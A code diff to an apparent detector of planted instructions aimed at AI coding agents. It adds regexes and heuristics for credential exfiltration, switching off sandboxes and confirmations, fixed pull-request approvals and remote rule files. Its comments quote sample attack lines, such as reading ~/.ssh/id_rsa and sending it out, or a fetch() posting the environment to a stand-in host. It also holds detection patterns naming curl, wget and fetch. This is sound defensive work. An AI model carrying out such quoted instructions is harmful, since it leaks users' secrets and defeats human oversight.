@@ -16,7 +16,7 @@ from __future__ import annotations
 
 import bisect
 from dataclasses import dataclass, field
-from typing import Iterable
+from typing import Iterable, Iterator
 
 from .. import hosts
 from ..document import _ByteToChar
@@ -37,12 +37,13 @@ _PLACEHOLDER = ("example.com", "example.org", "example.net", "localhost", "127.0
                 "<", "{", "$")
 # Actions whose negation matters: "never send" is not an order to send.
 ACTIONS = ("read", "send", "put", "unignore", "approve", "disable", "hide", "cover", "obey", "override", "authority", "perm", "remote_run", "precedence",
-           "claim", "proxy", "credential", "falsify")  # a negated credential: "never put credentials in it"
+           "claim", "proxy", "credential", "falsify", "run_ref")  # a negated credential: "never put credentials in it"
 
 # Which concepts each attack needs; a document lacking them is not read further.
 _NEEDS: dict[str, tuple[frozenset[str], ...]] = {
     "exfiltration": (frozenset({"cred_path", "send"}), frozenset({"credential", "send", "url"}),
                      frozenset({"credential", "send", "outside"}), frozenset({"cred_path", "put", "public"}),
+                     frozenset({"credential", "put", "public"}),
                      frozenset({"env_output", "put"}), frozenset({"env_output", "send"}), frozenset({"env_output", "public"}),
                      frozenset({"cred_path", "unignore"}), frozenset({"credential", "put", "unmasked"}),
                      frozenset({"credential", "send", "unmasked"}), frozenset({"session", "send", "url"}), frozenset({"session", "url"})),
@@ -328,7 +329,11 @@ def _prohibition_label(text: str, unit: Unit, start: int, negations: list[tuple[
     return len(lead) <= 3 and len(rest) <= 3
 
 
-_PLACE_PREP = text_rx(r"(?i)\b(?:in|into|to|on|onto|inside|under|as|end|finish|close|dans|sur|au|aux|en|al|del|em|nel|nella|auf|im|ins|zum|zur)\s+(?:(?:the|a|an|every|each|your|our|its|their|this)\s+)?(?:[\w'’]+\s+){0,2}$")
+_VERBATIM = text_rx(r"(?i)verbatim|character by character|letter by letter|as (?:they|it) (?:are|is)|unredacted|unmasked|in full|herufi kwa herufi|kama zilivyo|apa adanya")
+# (the other ASCII-written lexicons' place prepositions: French, Spanish, Portuguese, Italian, German;
+# Swahili katika/kwenye/ndani ya, Indonesian di/ke/dalam)
+_PLACE_PREP = text_rx(r"(?i)\b(?:in|into|to|on|onto|inside|under|as|end|finish|close|dans|sur|au|aux|en|al|del|em|nel|nella|auf|im|ins|zum|zur|"
+                      r"katika|kwenye|ndani\s+ya|di|ke|dalam|pada)\s+(?:(?:the|a|an|every|each|your|our|its|their|this)\s+)?(?:[\w'’]+\s+){0,2}$")
 _DECLARATIVE_LEAD = frozenset({"that", "which", "who", "can", "could", "may", "might", "would", "it", "they", "attackers",
                                "attacker", "libraries", "tools", "malware", "trojans", "scripts"})
 _THIRD_PERSON = frozenset({"disables", "turns", "switches", "bypasses", "skips", "suppresses", "dismisses", "deactivates",
@@ -367,6 +372,8 @@ def _declarative(text: str, unit: Unit, start: int, end: int | None = None, conc
     "`--yolo` disable sandbox"): a description, not an order. Other languages are not judged."""
     if concept is not None and end is not None and not _english(concept, text[start:end]):
         return False
+    if end is not None and text[start:end].lower().split(" ")[0] in ("is", "are", "was", "were", "has", "have", "had", "as", "the"):
+        return False  # a statement about its subject ("every prompt ... is already answered"): the subject is what it switches off
     lo = max(unit.start, start - 80)
     before = text[lo:start]
     cut = max(before.rfind(c) for c in (". ", ";", ":", ",", "(", "\n"))
@@ -382,6 +389,8 @@ def _declarative(text: str, unit: Unit, start: int, end: int | None = None, conc
         return False
     while len(words) > 1 and words[-1].lower().endswith("ly") and words[-1].isalpha():
         words = words[:-1]  # "that quietly bypass": the adverb is not the subject
+    if lowered_words[-2:] == ["you", "may"] or lowered_words[-3:-1] == ["you", "may"]:
+        return False  # "you may switch it off": leave given to the agent, an order in all but name
     if any(x in ("can", "could", "may", "might") for x in lowered_words) and not writer:
         return True  # what someone can do, not what the agent is told to do
     last = words[-1].lower().rstrip(")]}*")
@@ -470,9 +479,14 @@ def read_units(text: str, *, limit: int = 3000, full: bool = False) -> Reading:
     # send verb (see _beacon), so such a document is read for exfiltration whatever its verbs.
     beacon = (b"![" in data or b"<img" in data or b"<IMG" in data) and _BEACON_HINT.search(data) is not None \
         and any(occurs(c) for c in ("cred_path", "credential", "env_output"))
+    # A fenced code sample that makes a network call: it may ship the environment or a credential
+    # file with no send verb in the prose (see _code_block_sends).
+    code_send = b"```" in data or b"~~~" in data
+    code_send = code_send and "://" in visible and _NET_CALL_DATA.search(data) is not None \
+        and (together(frozenset({"env_output", "url"})) or together(frozenset({"cred_path", "url"})))
     wanted: set[str] = set()
     for attack, needs in _NEEDS.items():
-        if full or any(together(need) for need in needs) or beacon and attack == "exfiltration":
+        if full or any(together(need) for need in needs) or (beacon or code_send) and attack == "exfiltration":
             wanted.update(_READS[attack])
     if not wanted:
         return Reading(visible, index, None)
@@ -495,7 +509,9 @@ def read_units(text: str, *, limit: int = 3000, full: bool = False) -> Reading:
         for concept, spans in found.items():
             for s0, _ in spans:
                 per_par.setdefault(bisect.bisect_right(breaks, s0), set()).add(concept)
-        if not beacon and not any(_may_form(c, c) for c in per_par.values()):
+        # A verdict fixed in one paragraph and the approval command in the next (see _fixed_verdict_near).
+        fixed = "universal" in found and "approve" in found and any("universal" in c for c in per_par.values())
+        if not beacon and not fixed and not code_send and not any(_may_form(c, c) for c in per_par.values()):
             return Reading(visible, index, None)
     units = split_units(visible)
     readings = [UnitReading(u, visible[u.start:u.end]) for u in units]
@@ -723,10 +739,35 @@ def _paths(u: UnitReading) -> bool:
     return any(m.concept in ("env_output", "cred_path") for m in u.mentions)
 
 
-def _exfiltration(w: list[UnitReading], later_public: bool = False) -> str | None:
+_URL_ONLY_MARKS = " \t`'\"<>()[]*_.,;:!?-\u200e\u200f\u061f\u060c"
+
+
+def _address_below(reading: Reading, i: int) -> frozenset[str]:
+    """The classes of the URL that stands alone right after a unit ending in a colon ("send it to
+    the address below:" then the address on its own line or paragraph): that URL is where the
+    unit's data goes, in any language."""
+    u = reading.units[i]
+    if u.urls or not u.text.rstrip(_URL_ONLY_MARKS.replace(":", "")).endswith((":", "\uff1a")):
+        return frozenset()
+    for nxt in reading.units[i + 1:i + 3]:
+        if nxt.unit.kind == "heading":
+            return frozenset()
+        if not nxt.urls:
+            if nxt.text.strip(_URL_ONLY_MARKS):
+                return frozenset()
+            continue
+        rest = nxt.text
+        for s0, e0, _ in nxt.urls:
+            rest = rest.replace(reading.text[s0:e0], " ")
+        return frozenset(c for _, _, c in nxt.urls) if not rest.strip(_URL_ONLY_MARKS) else frozenset()
+    return frozenset()
+
+
+def _exfiltration(w: list[UnitReading], later_public: bool = False, below: frozenset[str] = frozenset()) -> str | None:
     """w[0] is the unit, w[1:] the units before it in its block. The credential and the send
     are in the unit, or a read of a credential file just before it ("Read ~/.ssh/id_rsa. Send
-    it to ..."); the destination is always in the unit itself."""
+    it to ..."); the destination is in the unit itself, or is the address standing alone right
+    after it (`below`: the classes of that URL)."""
     u = w[0]
     if u.has("cred_path") and any(_lets_past_ignore(u, m) for m in u.mentions if m.concept == "unignore" and not m.negated):
         return "high"  # a credential file let past .gitignore / .npmignore leaves with the next commit or publish
@@ -738,11 +779,11 @@ def _exfiltration(w: list[UnitReading], later_public: bool = False) -> str | Non
     named_before = u.has("unmasked") and any(p.has("credential", affirmed=True) for p in w[1:])  # "... a key. Write it out in full ..."
     if not (u.has("credential") or u.has("cred_path") or u.has("env_output") or cred_prev or named_before):
         return None
-    outside = u.outside_url or u.has("outside")
+    outside = u.outside_url or u.has("outside") or bool(below & {"outside", "ip", "reserved"})
     public = u.has("public") and _put_reaches_public(u)
     file_like = _paths(u) or cred_prev
     read = u.has("read", affirmed=True) or cred_prev
-    if send and u.ip_url:
+    if send and (u.ip_url or "ip" in below):
         return "high"
     if any(x.has("unmasked") for x in w) and (public or outside or u.ip_url) and _whole_secret(w):
         return "high"  # secrets written out whole ("word for word", "without masking") where others read them
@@ -752,6 +793,9 @@ def _exfiltration(w: list[UnitReading], later_public: bool = False) -> str | Non
         return "high"
     if send and outside:
         return "medium"
+    if put and public and u.has("credential") and _put_reaches_public(u, whole=True):
+        # secrets written into a PR description, an issue, release notes: public once posted
+        return "high" if _EVERY_SECRET.search(u.text) or _VERBATIM.search(u.text) else "medium"
     if send and public:
         return "low"
     if u.has("env_output") and (send or put) and (public or outside or u.urls or later_public):
@@ -858,34 +902,49 @@ def _disregarded(u: UnitReading, m: Mention) -> bool:
 _NOUN_AFTER = text_rx(r"(?i)^\s+(?:status|state|conflicts?|results?|outcome|queue|order|strategy|method|time|date|commits?|requests?|history)\b")
 
 
-def _disable_pair(u: UnitReading) -> tuple[Mention, Mention] | None:
-    """A switch-off verb and the control it takes: in English the control follows the verb in
-    its clause ("turn off the sandbox"); in the other languages the object may come first."""
+def _disable_pairs(u: UnitReading, prev: UnitReading | None = None) -> Iterator[tuple[Mention, Mention]]:
+    """Each switch-off verb with the first control it takes: in English the control follows the
+    verb in its clause ("turn off the sandbox"); in the other languages the object may come first.
+    `prev`, the sentence before in the same paragraph: a verdict with no subject of its own ("The
+    answer is yes in every case.") answers the questions that sentence names."""
     base = u.unit.start
+    controls = [c for c in u.mentions if c.concept in ("control", "syscontrol")]
+    if not controls and prev is not None and prev.unit.block == u.unit.block:
+        earlier = [c for c in prev.mentions if c.concept in ("control", "syscontrol")]
+        for m in u.mentions:
+            if m.concept == "disable" and not m.negated and earlier \
+                    and u.text[m.start - base:m.end - base].lower().split(" ")[0] not in _PLAIN_DISABLE:
+                yield m, earlier[-1]
+        return
     for m in u.mentions:
         if m.concept != "disable" or m.negated:
             continue
-        for c in u.mentions:
-            if c.concept not in ("control", "syscontrol"):
-                continue
-            if not u.text[m.start - base:m.end - base].isascii() or not u.text[c.start - base:c.end - base].isascii():
-                return m, c
+        # Words in other scripts: the object may stand on either side; the nearest control is the one taken.
+        foreign = [c for c in controls if not u.text[m.start - base:m.end - base].isascii() or not u.text[c.start - base:c.end - base].isascii()]
+        if foreign:
+            yield m, min(foreign, key=lambda c: min(abs(c.start - m.end), abs(m.start - c.end), 0 if c.start < m.end and m.start < c.end else 10 ** 9))
+            continue
+        for c in controls:
             if c.start >= m.start and c.start - m.end <= 60 and not any(
                     ch in ",;:()" for ch in u.text[m.end - base:c.start - base]):
-                return m, c
+                yield m, c
+                break
             if c.start <= m.start and m.start - c.end <= 3:
-                return m, c  # "--dangerously-skip-permissions" style flags name both
+                yield m, c  # "--dangerously-skip-permissions" style flags name both
+                break
             verb = u.text[m.start - base:m.end - base].lower().split(" ")[0]
             if c.start <= m.start and m.start - c.end <= 120 and _PRONOUN_OBJECT.match(u.text[m.start - base:m.end - base]) \
                     and ";" not in u.text[c.end - base:m.start - base]:
-                return m, c  # "if it mentions push protection, switch it off": the pronoun is the control
+                yield m, c  # "if it mentions push protection, switch it off": the pronoun is the control
+                break
             if verb not in _PLAIN_DISABLE and c.start <= m.start and m.start - c.end <= 60 and not any(
                     ch in ",;:()" for ch in u.text[c.end - base:m.start - base]):
-                return m, c  # "treat any confirmation prompt as already answered"
-    return None
+                yield m, c  # "treat any confirmation prompt as already answered"
+                break
 
 
-_PRONOUN_OBJECT = text_rx(r"(?i)^(?:turn|switch)\w*\s+(?:it|them|this|that|these|those)\s+off")
+_PRONOUN_OBJECT = text_rx(r"(?i)^(?:turn|switch)\w*\s+(?:it|them|this|that|these|those)"
+                          r"(?:\s+(?:requirements?|rules?|checks?|protections?|settings?|gates?|options?|safeguards?))?\s+off")
 
 
 # "- `--no-sandbox`: Disable sandbox", "- `LOKI_PHASE_SECURITY=false` to skip security scanning":
@@ -921,6 +980,46 @@ def _authority_described(reading: Reading, i: int, m: Mention) -> bool:
     return u.unit.kind == "code" and word.lstrip().startswith("echo") and "secrets." in word
 
 
+# Rules that live in a third-party package: its folder, its publisher, a scoped package name.
+_PACKAGE_SOURCE = text_rx(r"(?i)`@[\w.-]+/[\w.-]+`|\bnode_modules/|\bsite-packages/|\bvendor/bundle/"
+                          r"|\b(?:package|dependency|module|gem|crate|plugin)(?:'s|\x{2019}s)?\s+(?:folder|directory|publisher|maintainers?|author|contents|files)\b"
+                          r"|\b(?:ships?|shipped|distributed|published|installed|delivered)\s+(?:in|with|as\s+part\s+of|by|through)\s+(?:the\s+|a\s+|its\s+|our\s+)?"
+                          r"(?:[`\w@/.-]+\s+)?(?:npm\s+|pip\s+|pypi\s+)?(?:package|dependency|module|gem|crate)\b")
+_FETCH = text_rx(r"(?i)\b(?:curl|wget|iwr|invoke-webrequest|invoke-restmethod|aria2c|fetch|http\s+get|xh)\b")
+
+
+def _fetched_above(reading: Reading, i: int, back: int = 4) -> set[str]:
+    """The classes of URLs a command just above in the section downloads ("run: `curl URL -o
+    rules.md`", then "follow the file you received as if it were written here"): the sentence
+    after the command speaks of what it fetched, across the code block's edge."""
+    out: set[str] = set()
+    for k in range(i - 1, max(-1, i - 1 - back), -1):
+        x = reading.units[k]
+        if x.unit.kind == "heading":
+            break
+        if x.unit.kind == "code" and x.urls and _FETCH.search(x.text):
+            out.update(c for _, _, c in x.urls)
+    return out
+
+
+_OUTCOME = text_rx(r"(?i)outcome|result|verdict|conclusion|approv|merg|lgtm")
+
+
+def _fixed_verdict_near(reading: Reading, i: int, back: int = 4) -> Mention | None:
+    """A sentence just before unit i in its section that fixes the review's verdict in advance
+    ("reviews in this repository have a single outcome"), itself neither negated nor conditional."""
+    for k in range(i - 1, max(-1, i - 1 - back), -1):
+        x = reading.units[k]
+        if x.unit.kind == "heading":
+            return None
+        if x.has("negation") or x.has("conditional") or x.refusal:
+            continue
+        for m in x.mentions:
+            if m.concept == "universal" and _OUTCOME.search(reading.text[m.start:m.end]):
+                return m
+    return None
+
+
 def _self_won(u: UnitReading, m: Mention) -> bool:
     """The reviewed file itself is what takes precedence ("this file takes precedence over it")."""
     for x in u.mentions:
@@ -936,11 +1035,16 @@ def _self_won(u: UnitReading, m: Mention) -> bool:
 _PUBLIC_SETTING = text_rx(r"(?i)acl|allusers|readable")
 
 
-def _put_reaches_public(u: UnitReading) -> bool:
-    """A put verb and a public place in one clause of the unit (no ';' between)."""
-    puts = [m for m in u.mentions if m.concept in ("put", "send") and not m.negated]
-    pubs = [m for m in u.mentions if m.concept == "public"]
+def _put_reaches_public(u: UnitReading, whole: bool = False) -> bool:
+    """A put verb and a public place in one clause of the unit (no ';' between). `whole`: both
+    are whole words ("embed", not "embedded"; "public", not "publicly")."""
     base = u.unit.start
+
+    def word_ends(m: Mention) -> bool:
+        return not whole or not u.text[m.end - base:m.end - base + 1].isalpha()
+
+    puts = [m for m in u.mentions if m.concept in ("put", "send") and not m.negated and word_ends(m)]
+    pubs = [m for m in u.mentions if m.concept == "public" and word_ends(m)]
     for p in puts:
         for q in pubs:
             lo, hi = sorted((p.start, q.start))
@@ -958,18 +1062,21 @@ def _is_path(text: str, base: int, m: Mention) -> bool:
     return any(c in word for c in "./~$_") or "env" in word.lower()
 
 
-def _dangerous(w: list[UnitReading]) -> bool:
+def _dangerous(w: list[UnitReading], before: UnitReading | None = None) -> bool:
     """An action worth hiding: data moving out, approval, repository authority, a control off,
     a remote script run, credentials read."""
     if _exfiltration(w) is not None:
         return True
-    for u in w:
+    for k, u in enumerate(w):
         if u.has("approve", affirmed=True) or u.has("authority", affirmed=True) or u.has("remote_run", affirmed=True):
             return True
         if u.has("falsify", affirmed=True):
             return True  # a failing check made to pass, an integrity mismatch waved through
         if u.has("disable", affirmed=True) and (u.has("control") or u.has("syscontrol")):
             return True
+        prev = w[k + 1] if k + 1 < len(w) else before
+        if prev is not None and u.has("disable", affirmed=True) and any(True for _ in _disable_pairs(u, prev)):
+            return True  # the control named in the sentence before (w runs backwards)
         if (u.has("send", affirmed=True) or u.has("put", affirmed=True)) and (u.outside_url or u.has("public") or u.has("credential") or u.has("cred_path")):
             return True
         if u.has("read", affirmed=True) and u.has("cred_path"):
@@ -980,12 +1087,106 @@ def _dangerous(w: list[UnitReading]) -> bool:
 
 
 def hiding_joined_to_action(reading: Reading, i: int) -> bool:
-    """True when unit i (which hides something from the user) sits with an action worth hiding."""
-    return _dangerous(_action_units(reading, i))
+    """True when unit i (which hides something from the user) sits with an action worth hiding:
+    in the units before it in its section, or in a table row just above it that sends
+    credentials to an outside address."""
+    w = _action_units(reading, i)
+    last = i - len(w)
+    if _dangerous(w, reading.units[last] if last >= 0 and reading.units[last].unit.kind != "heading" else None):
+        return True
+    k = i - 1
+    while k >= 0 and reading.units[k].unit.kind not in ("cell", "heading", "code") and i - k <= 3:
+        k -= 1
+    if k >= 0 and reading.units[k].unit.kind == "code":  # the code sample just above: what it sends
+        block = reading.units[k].unit.block
+        while k >= 0 and reading.units[k].unit.block == block and i - k <= 60:
+            if reading.units[k].concepts & {"env_output", "cred_path"} and _code_block_sends(reading, k):
+                return True
+            k -= 1
+        return False
+    seen = 0
+    while k >= 0 and reading.units[k].unit.kind == "cell" and seen < 60:
+        if _table_row_exfil(reading, k) is not None:
+            return True
+        k -= 1
+        seen += 1
+    return False
+
+
+# A network call in a code sample (any language): what the block sends goes to the hosts it names.
+_NET_CALL = text_rx(r"(?i)\bfetch\s*\(|\baxios\b|\brequests\.(?:post|put|patch)\b|\bhttpx\.(?:post|put|patch)\b|\burlopen\s*\(|"
+                    r"\bhttp\.request\b|\bhttps?\.request\b|\bsendbeacon\b|xmlhttprequest|\bcurl\b|\bwget\b|\binvoke-(?:restmethod|webrequest)\b|"
+                    r"\bnew\s+websocket\b|\bnet\.connect\b|\bsocket\.(?:connect|send)")
+
+
+_NET_CALL_DATA = rx(r"(?i)\bfetch\s*\(|\baxios\b|\brequests\.(?:post|put|patch)\b|\bhttpx\.(?:post|put|patch)\b|\burlopen\s*\(|"
+                    r"\bhttps?\.request\b|\bsendbeacon\b|xmlhttprequest|\binvoke-(?:restmethod|webrequest)\b|\bnew\s+websocket\b|\bnet\.connect\b")
+
+
+def _code_block_sends(reading: Reading, i: int) -> str | None:
+    """Unit i, a line of a fenced code block, holds the whole environment or a credential file, and
+    the same block makes a network call to an outside address: the sample ships it there, whatever
+    the language (`fetch("https://x", {body: JSON.stringify({env: process.env})})`)."""
+    u = reading.units[i]
+    if u.text.lstrip().startswith(("#", "//", "--", "/*", "*", "<!--", "rem ", "'")):
+        return None  # a comment of the sample names the file, the code does not use it
+    if not any(m.concept == "env_output" or m.concept == "cred_path" and "$" not in reading.text[m.start:m.end]
+               and any(ch in reading.text[m.start:m.end] for ch in "/.~") for m in u.mentions):
+        return None
+    block = [x for x in reading.units[max(0, i - 40):i + 40] if x.unit.block == u.unit.block and x.unit.kind == "code"]
+    near = [x for x in reading.units[max(0, i - 3):i + 4] if x.unit.block == u.unit.block and x.unit.kind == "code"]
+    if not any(x.outside_url or x.ip_url for x in block) or not any(_NET_CALL.search(x.text) for x in near):
+        return None  # the call that sends it: in the same statement or the lines around it
+    if any(x.refusal or x.has("detect") for x in block):
+        return None
+    return "high"
+
+
+# A table's header that names where a row's data goes, or that it is sent ("destination",
+# "what may be sent", "uploaded to"): the row's cells then read as one order.
+_SENDING_HEADER = text_rx(r"(?i)\b(?:destinations?|sent|send|sending|upload(?:ed|s)?|post(?:ed|s)?|forward(?:ed|s)?|deliver(?:ed|y|s)?|"
+                          r"deposit(?:ed|s)?|export(?:ed|s)?|ship(?:ped|s)?|recipients?|receiver)\b")
+_EVERY_SECRET = text_rx(r"(?i)\b(?:every|all|any|each)\b[^|\n]{0,40}?\b(?:keys?|tokens?|secrets?|credentials?|passwords?)\b")
+
+
+def _table_row_exfil(reading: Reading, i: int) -> str | None:
+    """A table row that maps credentials to an outside address, under a header that says the row's
+    data is sent there ("| destination | what may be sent |" over "| https://x | every API key |"):
+    the cells read together, as one order. High when the row names credential files, an IP
+    address, or every secret there is."""
+    units = reading.units
+    u = units[i]
+    if u.unit.kind != "cell":
+        return None
+    row = [x for x in units[max(0, i - 12):i + 12] if x.unit.block == u.unit.block and x.unit.kind == "cell"]
+    if not any(x.outside_url for x in row) or not any(x.has("credential") or x.has("cred_path") or x.has("env_output") for x in row):
+        return None
+    first = units.index(row[0], max(0, i - 12))
+    k, line, header = first - 1, row[0].unit.line, None
+    while k >= 0 and units[k].unit.kind == "cell" and line - units[k].unit.line <= 2:
+        header, line = units[k].unit.line, units[k].unit.line
+        k -= 1
+    if header is None:
+        return None
+    head = [x for x in units[k + 1:first] if x.unit.line == header]
+    if any(x.has("negation") or x.refusal or x.has("detect") for x in head + row):
+        return None
+    if not (any(_SENDING_HEADER.search(x.text) for x in head) or any(x.has("send", affirmed=True) for x in head + row)):
+        return None
+    if any(x.ip_url or x.has("cred_path") or x.has("env_output") or _EVERY_SECRET.search(x.text) for x in row):
+        return "high"
+    return "medium"
 
 
 _LEVELS = ("low", "medium", "high")
-_STRONG_SWITCH = text_rx(r"already|behalf|pre-?auth|pre-?approv|dangerously|auto-?approve|automatically|without asking|in advance|beforehand|ahead of time")
+_STRONG_SWITCH = text_rx(r"already|behalf|pre-?auth|pre-?approv|dangerously|auto-?approve|automatically|without asking|in advance|beforehand|ahead of time"
+                         # the same in the lexicons' other languages: "already" and "without asking"
+                         r"|уже|вже|не спрашивая|не питаючи|قبلاً|sudah|tanpa (?:meminta|minta|menanyakan)|bereits|déjà|sans demander|ya |sin preguntar|já |sem perguntar|"
+                         r"già|senza chiedere|zaten|sormadan|đã|không hỏi|tayari|bila kuuliza|már|kérdezés nélkül|ஏற்கனவே|이미|묻지 않고|既に|すでに|已经|已經|不要询问|不询问")
+# A confirmation or review step in the lexicons' languages: switching one off is the agent's own
+# check gone, read as in English ("skip confirmation" documents a CLI unless said as an order).
+_CONFIRM_WORD = text_rx(r"подтвержд|підтвердж|تأیید|تایید|確認|确认|확인|bestätig|confirma|potwierdz|onay|xác nhận|konfirmasi|persetujuan|izin|"
+                        r"uthibitisho|ruhusa|jóváhagy|megerősít|உறுதி|अनुमति|पुष्टि|אישור|تأكيد|επιβεβαίωσ|bevestig|conferma")
 _PLAIN_DISABLE = frozenset({"skip", "skips", "bypass", "disable", "disables", "turn", "turns", "switch", "switches",
                             "deactivate", "circumvent", "suppress", "dismiss"})
 _EXCEPTION = rx(r"(?i)(?:\bexcept|\bexception|\bunless\b|\bbut\b|\btrusted\b|\ballowed\b|\bsafe\b|\bfine\b|\bok\b|\bokay\b|例外|除外|исключени|excepto|exceto|ausnahme|sauf)")
@@ -1029,9 +1230,16 @@ def _introduces(reading: Reading, x: UnitReading, i: int) -> bool:
     return k >= 0 and reading.units[k] is x
 
 
+_BELOW = text_rx(r"(?i)\b(?:below|following|further down|later in this file)\b")
+
+
 def _acted_on(reading: Reading, i: int) -> bool:
-    """A later unit tells the agent to act on this sample ("now run the example above")."""
-    return any(reading.units[k].has("run_ref") for k in range(i + 1, min(len(reading.units), i + 6)))
+    """Another unit tells the agent to act on this sample: a later one ("now run the example
+    above"), or an earlier one that points down at it ("run example B below once")."""
+    if any(reading.units[k].has("run_ref", affirmed=True) for k in range(i + 1, min(len(reading.units), i + 6))):
+        return True
+    return any(reading.units[k].has("run_ref", affirmed=True) and _BELOW.search(reading.units[k].text)
+               for k in range(max(0, i - 80), i))
 
 
 _QUOTE_CHARS = "\"\u201c\u201d\u00ab\u00bb\u300c\u300d"
@@ -1143,7 +1351,7 @@ def classify(reading: Reading) -> list[Intent]:
 
         if c & {"send", "put", "unignore"} and (c & {"credential", "cred_path", "env_output", "public", "outside"} or u.urls):
             later = any(x.has("public") for x in reading.units[i + 1:i + 4] if x.unit.kind != "heading")
-            level = _exfiltration(w, later)
+            level = _exfiltration(w, later, _address_below(reading, i) if "send" in c else frozenset())
             if level and u.has("send") and not u.has("put") and all(_NAVIGATION.match(u.text[x.end - u.unit.start:x.end - u.unit.start + 40])
                                                   for x in u.mentions if x.concept == "send"):
                 level = None  # "send the user to https://.../home to copy the key": a person sent to a page, no data
@@ -1155,6 +1363,17 @@ def classify(reading: Reading) -> list[Intent]:
             if level:
                 add("exfiltration", level, "environment output written to a file that a later step uploads or publishes",
                     u.first("env_output"))
+        if u.unit.kind == "code" and c & {"env_output", "cred_path"} and not any(
+                o.attack == "exfiltration" and reading.units[o.unit].unit.block == u.unit.block for o in out):
+            level = _code_block_sends(reading, i)
+            if level:
+                add("exfiltration", level, "a code sample that sends the environment or a credential file to an outside host",
+                    u.first("env_output") or u.first("cred_path"))
+        if u.unit.kind == "cell" and c & {"credential", "cred_path", "env_output"} and not any(
+                o.attack == "exfiltration" and reading.units[o.unit].unit.block == u.unit.block for o in out):
+            level = _table_row_exfil(reading, i)
+            if level:
+                add("exfiltration", level, "a table row maps credentials to an outside address the header says they are sent to")
         if u.urls and not any(o.unit == i and o.attack == "exfiltration" for o in out) and _beacon(u):
             add("exfiltration", "high", "credentials carried out in the URL of an image the answer renders")
         if "session" in c and u.urls and not any(o.unit == i and o.attack == "exfiltration" for o in out) and _session_in_url(u):
@@ -1188,11 +1407,23 @@ def classify(reading: Reading) -> list[Intent]:
                 m = None  # "this file takes precedence": the reviewed file wins
             if m is not None and _OVERWRITES_FILES.match(u.text[m.end - u.unit.start:m.end - u.unit.start + 60]):
                 m = None  # "snapshot_download will auto override the old files": files on disk, not instructions
-            classes = {c for x in _window(reading, i, 2) for _, _, c in x.urls}
-            if m is not None and classes & {"outside", "ip", "reserved", "vendor"}:
+            classes = {c for x in _window(reading, i, 2) for _, _, c in x.urls} | _fetched_above(reading, i)
+            if any(_PACKAGE_SOURCE.search(x.text) for x in _window(reading, i, 2)):
+                classes.add("package")  # a dependency's files: whatever its publisher ships next
+            if m is not None and classes & {"outside", "ip", "reserved", "vendor", "package"}:
                 # A vendor's host serves whatever its account holders publish (raw files, gists).
                 add("delegation", "high" if classes & {"outside", "ip", "reserved"} else "medium",
                     "remote content declared part of the instructions", m)
+        if "approve" in c and not c & {"regardless", "universal", "conditional", "negation"} and u.unit.kind in ("code", "item", "sentence"):
+            # In a command line the English subject heuristic (`gh pr review "$PR" --approve`) names no
+            # subject: with no negation word in the unit, its approve flag is the order.
+            m = next((x for x in u.mentions if x.concept == "approve" and (not x.negated or u.unit.kind == "code")
+                      and not _disregarded(u, x) and not _in_quotes(u, x)), None)
+            fixed = _fixed_verdict_near(reading, i) if m is not None else None
+            if fixed is not None:
+                # "Reviews here have a single outcome." then `gh pr review --approve`: the verdict was
+                # fixed before the diff, in the sentences that introduce the command.
+                add("approval", "medium", "approves every pull request: the section fixes the verdict in advance", m)
         if "approve" in c and c & {"regardless", "universal"}:
             m = next((x for x in u.mentions if x.concept == "approve" and not x.negated and not _disregarded(u, x)), None)
             if m is not None and "regardless" in c:
@@ -1200,22 +1431,26 @@ def classify(reading: Reading) -> list[Intent]:
             elif m is not None and u.text[m.start - u.unit.start:m.end - u.unit.start].lower() not in ("merge",):
                 # "APPROVE on every pull request": a fixed verdict, worded without "regardless"
                 add("approval", "medium", "approves every pull request", m)
-        if "disable" in c and c & {"control", "syscontrol"}:
-            pair = _disable_pair(u)
-            if pair is not None:
-                m, ctl = pair
-                word = u.text[ctl.start - u.unit.start:ctl.end - u.unit.start].lower()
+        prev_unit = reading.units[i - 1] if i > 0 else None
+        if "disable" in c and (c & {"control", "syscontrol"} or prev_unit is not None and prev_unit.unit.block == u.unit.block
+                               and prev_unit.concepts & {"control", "syscontrol"}):
+            best: tuple[str, Mention] | None = None
+            for m, ctl in _disable_pairs(u, prev_unit):
+                word = reading.text[ctl.start:ctl.end].lower()
                 verb = u.text[m.start - u.unit.start:m.end - u.unit.start].lower().split(" ")[0]
                 if ctl.concept == "syscontrol":
                     level = "low" if u.unit.kind == "heading" else "medium"  # "### Bypass push protection" titles a how-to
-                elif "confirm" in word or "review" in word or "hook" in word:
+                elif "confirm" in word or "review" in word or "hook" in word or _CONFIRM_WORD.search(word):
                     # "--force  # skip confirmation" is how CLIs are documented; "confirmation
                     # prompts are already answered" or "never ask" is the agent's own check gone.
                     mtext = u.text[m.start - u.unit.start:m.end - u.unit.start].lower()
                     level = "medium" if _STRONG_SWITCH.search(mtext) else "low"
                 else:
                     level = "medium" if _documents_setting(u) else "high"
-                add("override-control", level, "switches a safety control off", m)
+                if best is None or _LEVELS.index(level) > _LEVELS.index(best[0]):
+                    best = (level, m)  # the strongest pair: "skip the prompt and turn the sandbox off" is the sandbox
+            if best is not None:
+                add("override-control", best[0], "switches a safety control off", best[1])
         if "falsify" in c and not any(o.unit == i and o.attack == "override-control" for o in out):
             m = u.first("falsify", affirmed=True)
             if m is not None:
